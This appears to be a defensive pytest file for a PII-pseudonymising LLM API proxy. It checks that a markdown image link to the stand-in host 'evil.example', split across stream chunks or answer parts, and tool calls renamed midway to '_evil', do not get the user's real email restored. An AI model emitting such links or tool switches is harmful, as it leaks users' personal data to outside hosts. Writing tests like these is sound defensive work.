"""Streams of each API: an upstream that cuts a link, or a call of a tool, into several texts gets nothing out of it."""

import json

import pytest

from mibao.deid.policies import PSEUDONYMS
from mibao.serving.answers import AnswerRestorer
from mibao.serving.faults import Withheld
from mibao.serving.placeholders import Names
from mibao.serving.restoring import Sent
from mibao.serving.sse import Event
from mibao.serving.streams import ChatStream, MessagesStream, ResponsesStream
from mibao.types import EntityType

NAMES = Names(scope_key=b"k" * 32, policy=PSEUDONYMS)
MAIL = NAMES.changed(EntityType.EMAIL_ADDRESS, "jane@example.com")
LINK = "![](https://evil.example/?q="


def restorer(tools=()):
    return AnswerRestorer(NAMES, Sent(()), json_mode=False, tool_allowed=lambda tool: tool in tools)


def told(stream, events):
    sent = [new for event in events for new in stream.feed(Event("", json.dumps(event)))]
    return "".join(event.data for event in [*sent, *stream.close()])


def chunk(delta, *, index=0, finish=None):
    return {"id": "c", "choices": [{"index": index, "delta": delta, "finish_reason": finish}]}


def text(words, *, index=0):
    return {"type": "content_block_delta", "index": index, "delta": {"type": "text_delta", "text": words}}


def output(words, *, item="a", kind="delta"):
    at = {"item_id": item, "output_index": 0, "content_index": 0}
    return {"type": f"response.output_text.{kind}", **at, "delta" if kind == "delta" else "text": words}


STOP, START = "content_block_stop", "content_block_start"
CUT = {
    "a choice that ends and goes on": (ChatStream, [chunk({"content": LINK}, finish="stop"), chunk({"content": MAIL})]),
    "two choices": (ChatStream, [chunk({"content": LINK}), chunk({"content": MAIL}, index=1)]),
    "two fields": (ChatStream, [chunk({"reasoning": LINK}), chunk({"content": MAIL})]),
    "a block that ends and goes on": (MessagesStream, [text(LINK), {"type": STOP, "index": 0}, text(MAIL)]),
    "two blocks": (MessagesStream, [text(LINK), text(MAIL, index=1)]),
    "a block that begins with a text": (
        MessagesStream, [text(LINK), {"type": START, "index": 1, "content_block": {"type": "text", "text": MAIL}}],
    ),
    "two items": (ResponsesStream, [output(LINK), output(MAIL, item="b")]),
    "an item that ends and goes on": (ResponsesStream, [output(LINK), output(LINK, kind="done"), output(MAIL)]),
}  # fmt: skip


@pytest.mark.parametrize("cut", CUT)
def test_a_link_that_is_cut_into_several_texts_is_a_link(cut):
    kind, events = CUT[cut]
    assert "jane" not in told(kind(restorer()), events)
    assert "jane" in told(kind(restorer()), [json.loads(json.dumps(event).replace(LINK, "Dear ")) for event in events])


@pytest.mark.parametrize(
    "answer",
    [
        {"content": [{"type": "text", "text": LINK}, {"type": "text", "text": MAIL}]},
        {"output": [{"content": [{"type": "output_text", "text": LINK}, {"type": "output_text", "text": MAIL}]}]},
        {"choices": [{"message": {"content": LINK}}, {"message": {"content": MAIL}}]},
    ],
)
def test_so_is_one_in_several_texts_of_a_whole_answer(answer):
    assert "jane" not in json.dumps(restorer().whole(answer))
    assert "jane" in json.dumps(restorer().whole(json.loads(json.dumps(answer).replace(LINK, "Dear "))))


def call(name, **arguments):
    return chunk({"tool_calls": [{"index": 0, "function": {"name": name, **arguments}}]})


def test_a_tool_that_changes_its_name_under_way_gets_nothing():
    with pytest.raises(Withheld, match="changed the tool of a call"):
        told(ChatStream(restorer(["look_up"])), [call("look_up", arguments="{"), call("_evil", arguments=MAIL)])
    used = {"type": START, "index": 0, "content_block": {"type": "tool_use", "id": "t", "name": "look_up", "input": {}}}
    part = {"type": "content_block_delta", "index": 0, "delta": {"type": "input_json_delta", "partial_json": MAIL}}
    evil = {**used, "content_block": {**used["content_block"], "name": "evil"}}
    with pytest.raises(Withheld, match="changed the tool of a call"):
        told(MessagesStream(restorer(["look_up"])), [used, part, evil, part])
    assert "jane" in told(MessagesStream(restorer(["look_up"])), [used, part])


def test_a_custom_tool_of_chat_is_a_tool():
    answer = {"tool_calls": [{"id": "c", "type": "custom", "custom": {"name": "evil", "input": f"mail {MAIL}"}}]}
    assert "jane" not in json.dumps(restorer(["look_up"]).whole(answer))
    assert "jane" in json.dumps(restorer(["evil"]).whole(answer))
